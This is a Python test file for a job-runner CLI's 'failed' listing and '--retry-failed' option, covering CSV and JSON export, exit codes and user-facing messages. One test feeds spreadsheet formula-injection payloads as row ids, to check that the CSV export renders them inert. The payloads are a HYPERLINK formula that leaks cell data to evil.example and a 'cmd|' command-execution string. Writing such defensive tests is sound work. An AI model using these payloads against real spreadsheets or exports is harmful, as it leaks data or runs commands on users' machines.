"""``latentmill failed`` and ``run-job --retry-failed``: which rows failed, why, and once more."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from jobs.commands.cli import app
from jobs.commands.errors import EXIT_INCOMPLETE, EXIT_USAGE
from jobs.schema.base import RowJob
from tests.support.in_process import without_ray

runner = CliRunner()


def _job(folder: Path, texts: list[str]) -> list[str]:
    (folder / "rows.jsonl").write_text("".join(json.dumps({"text": text}) + "\n" for text in texts))
    (folder / "job.yaml").write_text(f"job: toy\ninput: {folder / 'rows.jsonl'}\nshard_rows: 3\n")
    return ["run-job", str(folder / "job.yaml"), "-o", str(folder / "out")]


def test_failed_rows_are_listed_and_counted(
    tmp_path: Path, toy_job: type[RowJob], monkeypatch: pytest.MonkeyPatch
) -> None:
    without_ray(monkeypatch)
    texts = [f"fail {n}" if n % 4 == 0 else f"row {n}" for n in range(12)]
    texts[8] = "fail \x1b[31m, red"
    command = _job(tmp_path, texts)
    done = runner.invoke(app, [*command, "--set", "max_failed_fraction=1"])
    assert done.exit_code == 0
    assert "--retry-failed does them again" in done.stderr
    listed = runner.invoke(app, ["failed", command[-1]])
    assert listed.exit_code == 0
    assert listed.output.startswith("3 of 12 rows failed\n")
    assert "rows.jsonl#4  (shard 1): " in listed.output
    assert "  2 x " in listed.output  # numbers aside; and in the words of a row, so that advice in them can be taken
    assert " #" not in listed.output
    assert "\x1b" not in listed.output
    table = list(csv.DictReader(io.StringIO(runner.invoke(app, ["failed", command[-1], "--csv"]).output)))
    assert [(row["id"], row["shard"]) for row in table] == [(f"rows.jsonl#{n}", str(n // 3)) for n in (0, 4, 8)]
    assert all(row["error"] for row in table)
    lines = runner.invoke(app, ["failed", command[-1], "--json"]).output.splitlines()
    assert [json.loads(line)["id"] for line in lines] == [row["id"] for row in table]
    again = runner.invoke(app, [*command, "--set", "max_failed_fraction=1", "--retry-failed"])
    assert (again.exit_code, "3 failed" in again.stderr) == (0, True)


def test_what_a_spreadsheet_would_run_is_words(
    tmp_path: Path, toy_job: type[RowJob], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before: an id of a stranger's was a formula to whoever opened the CSV."""
    without_ray(monkeypatch)
    own = ['=HYPERLINK("https://evil.example/?"&A1)', "+1+cmd|'/C x'!A0", "-2+3", "@SUM(A1)", "\t=1", "plain=1", "-1.5"]
    rows = [json.dumps({"text": "fail", "name": name}) + "\n" for name in own]
    (tmp_path / "rows.jsonl").write_text("".join(rows))
    (tmp_path / "job.yaml").write_text(f"job: toy\ninput: {{path: {tmp_path / 'rows.jsonl'}, id: name}}\n")
    command = ["run-job", str(tmp_path / "job.yaml"), "-o", str(tmp_path / "out"), "--set", "max_failed_fraction=1"]
    assert runner.invoke(app, command).exit_code == 0
    table = csv.DictReader(io.StringIO(runner.invoke(app, ["failed", command[3], "--csv"]).output))
    assert [row["id"] for row in table] == [*(f"'{name}" for name in own[:4]), "\\x09=1", "plain=1", "-1.5"]
    lines = runner.invoke(app, ["failed", command[3], "--json"]).output.splitlines()
    assert [json.loads(line)["id"] for line in lines] == own


def test_too_many_failures_say_what_to_do(tmp_path: Path, toy_job: type[RowJob], local_ray: str) -> None:
    command = _job(tmp_path, ["fail"] * 4 + ["row"] * 8)
    stopped = runner.invoke(app, command)
    assert stopped.exit_code == EXIT_INCOMPLETE
    assert "`latentmill failed` on the output folder lists them" in stopped.stderr
    assert "with --retry-failed does those rows again" in stopped.stderr
    listed = runner.invoke(app, ["failed", command[-1]])
    assert listed.output.startswith(("3 of 12", "4 of 12"))
    assert "shards are not done yet" in listed.output


def test_what_cannot_be_listed_or_retried_is_told(tmp_path: Path, toy_job: type[RowJob]) -> None:
    command = _job(tmp_path, ["row"])
    assert "there is no run in this folder" in runner.invoke(app, ["failed", command[-1]]).stderr
    dry = runner.invoke(app, [*command, "--retry-failed", "--dry-run"])
    assert (dry.exit_code, "--retry-failed runs the job" in dry.stderr) == (EXIT_USAGE, True)


def test_a_limit_grows_and_one_that_shrinks_is_refused_with_the_reason(
    tmp_path: Path, toy_job: type[RowJob], monkeypatch: pytest.MonkeyPatch
) -> None:
    without_ray(monkeypatch)
    command = _job(tmp_path, ["row"] * 6)
    assert runner.invoke(app, [*command, "--limit", "2"]).exit_code == 0
    more = runner.invoke(app, command)
    assert (more.exit_code, "6 rows: 6 ok, 0 failed" in more.output) == (0, True)
    assert "grows from 2 rows to all" in more.output
    fewer = runner.invoke(app, [*command, "--limit", "3"])
    assert fewer.exit_code == EXIT_USAGE
    assert "limit: was None, is 3" in fewer.stderr
    assert "A limit may grow, or go, where nothing else is another" in fewer.stderr
